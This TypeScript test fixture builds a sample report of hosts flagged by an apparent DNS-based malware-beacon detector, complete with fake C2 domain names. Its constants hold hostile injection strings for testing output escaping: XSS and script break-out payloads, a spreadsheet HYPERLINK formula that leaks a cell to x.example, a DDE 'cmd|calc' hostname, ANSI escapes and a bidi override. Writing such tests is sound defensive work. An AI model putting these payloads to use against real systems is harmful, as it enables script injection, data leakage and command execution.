// A realistic Report for the renderer tests, built here (not by the report builder): a beaconing
// workstation, a resolver sending ECS for two subnets with hundreds of active minutes and hostile
// names, a handled IPv6 host, a single contact with a hostile DHCP hostname, and ::1.

import type { NameStat, Report, ReportClient, Verdict } from '../../src/infected/model.js';

export const GENERATED = '2024-05-01T12:00:00.000Z';
export const SINCE = '2024-04-30T12:00:00.000Z';
const MINUTE = 60_000;

export const XSS_NAME = '<img src=x onerror=alert(1)>.evil';
export const SCRIPT_NAME = '</script><script>alert(2)</script>.no-ip.biz';
export const FORMULA_NAME = '=HYPERLINK("http://x.example/?"&A1,"click").hopto.org';
export const ANSI_NAME = 'red\u001b[31m\u001b[2J.zapto.org';
export const BIDI_NAME = 'moc.\u202Eevil.ddns.net';
export const HOSTILE_HOSTNAME = "-2+3+cmd|' /C calc'!A0";
export const ACK_NOTE = 'reimaged, ticket #4411: "done"\nby ana';

interface ClientSpec {
  client: string;
  verdict: Verdict;
  /** Minutes after SINCE with hits, each with `perMinute` hits. */
  minutes: number[];
  perMinute?: number;
  names: [string, string | undefined][];
  handled?: boolean;
  ack?: { at: string; note?: string };
  mac?: string;
  hostname?: string;
  subnets?: string[];
}

function iso(ms: number): string {
  return new Date(ms).toISOString();
}

export function makeClient(spec: ClientSpec): ReportClient {
  const start = Date.parse(SINCE);
  const per = spec.perMinute ?? 1;
  const timeline = spec.minutes.map((m) => [iso(start + m * MINUTE), per + (m % 3 === 0 ? 1 : 0)] as const);
  const hits = timeline.reduce((a, [, n]) => a + n, 0);
  // Hits spread over the names: the first name gets the most.
  const names: NameStat[] = spec.names.map(([name, family], i) => {
    const share = i === 0 ? hits - (spec.names.length - 1) : 1;
    return family === undefined ? { name, hits: share } : { name, hits: share, family };
  });
  const families = [...new Set(spec.names.map(([, f]) => f).filter((f): f is string => f !== undefined))];
  const first = start + (spec.minutes[0] as number) * MINUTE + 7_000;
  const last = start + (spec.minutes[spec.minutes.length - 1] as number) * MINUTE + 42_000;
  return {
    client: spec.client,
    firstSeen: iso(first),
    lastSeen: iso(last),
    hits,
    names,
    families,
    verdict: spec.verdict,
    reason:
      spec.verdict === 'likely-infected'
        ? `hits in ${spec.minutes.length} distinct minutes; ${names.length} listed name${names.length === 1 ? '' : 's'}`
        : `hits in 1 distinct minute; 1 listed name`,
    distinctMinutes: spec.minutes.length,
    handled: spec.handled ?? false,
    ...(spec.ack ? { ack: spec.ack } : {}),
    ...(spec.mac ? { mac: spec.mac } : {}),
    ...(spec.hostname !== undefined ? { hostname: spec.hostname } : {}),
    ...(spec.subnets ? { subnets: spec.subnets } : {}),
    timeline,
  };
}

const range = (from: number, to: number, step = 1) => Array.from({ length: Math.floor((to - from) / step) + 1 }, (_, i) => from + i * step);

export function makeReport(clients: ReportClient[], over: Partial<Report> = {}): Report {
  return {
    generatedAt: GENERATED,
    since: SINCE,
    rule: {
      minDistinctMinutes: 3,
      minDistinctNames: 2,
      explanation:
        'Malware beacons to its command-and-control name again and again, so hits spread over several minutes (or several listed names) point to an infected host; one burst of queries is more likely a typo, a link clicked once or a scanner.',
    },
    clients,
    summary: {
      clients: clients.length,
      likelyInfected: clients.filter((c) => c.verdict === 'likely-infected').length,
      singleContact: clients.filter((c) => c.verdict === 'single-contact').length,
      handled: clients.filter((c) => c.handled).length,
      hits: clients.reduce((a, c) => a + c.hits, 0),
    },
    ...over,
  };
}

/** The clients in report order: likely-infected first, then by hits. */
export function realisticClients(): ReportClient[] {
  const resolver = makeClient({
    client: '10.0.0.53',
    verdict: 'likely-infected',
    // Every other minute for ten hours, then quiet, then again near the end: 330 minutes.
    minutes: [...range(60, 660, 2), ...range(1380, 1439, 2)],
    perMinute: 2,
    names: [
      ['kr1s.no-ip.biz', 'Bladabindi'],
      ['update-svc.hopto.org', 'Jenxcus'],
      [XSS_NAME, undefined],
      [SCRIPT_NAME, 'Bladabindi'],
      [FORMULA_NAME, undefined],
      [ANSI_NAME, undefined],
      [BIDI_NAME, undefined],
      ['a-very-long-label-that-goes-on-and-on-for-sixty-characters-xx.some-dynamic-dns.ddns.net', 'njRAT'],
    ],
    subnets: ['10.0.0.0/24', '10.0.1.0/24'],
  });
  const desk = makeClient({
    client: '192.168.1.23',
    verdict: 'likely-infected',
    // A beacon every 5 minutes over the last 70 minutes.
    minutes: range(1370, 1439, 5),
    perMinute: 3,
    names: [
      ['evil.no-ip.biz', 'Bladabindi'],
      ['c2.hopto.org', 'Jenxcus'],
    ],
    mac: '3c:52:82:1a:7f:0e',
    hostname: 'desk-7',
  });
  const handledV6 = makeClient({
    client: '2001:db8::7',
    verdict: 'likely-infected',
    minutes: [200, 201, 205, 230],
    names: [['mail-sync.zapto.org', 'Jenxcus']],
    handled: true,
    ack: { at: '2024-04-30T17:00:00.000Z', note: ACK_NOTE },
    hostname: 'lab-printer',
  });
  const single = makeClient({
    client: '192.168.1.9',
    verdict: 'single-contact',
    minutes: [900],
    names: [['typo.no-ip.info', 'Bladabindi']],
    hostname: HOSTILE_HOSTNAME,
    mac: 'aa:bb:cc:00:11:22',
  });
  const loopback = makeClient({
    client: '::1',
    verdict: 'single-contact',
    minutes: [1200],
    names: [['test.no-ip.biz', undefined]],
    handled: true,
    ack: { at: '2024-05-01T09:00:00.000Z' },
  });
  // Report order: likely-infected by hits (most first), then single contacts by hits.
  return [resolver, desk, handledV6, single, loopback];
}

export function realisticReport(over: Partial<Report> = {}): Report {
  return makeReport(realisticClients(), { ...over });
}

export function emptyReport(): Report {
  return makeReport([]);
}
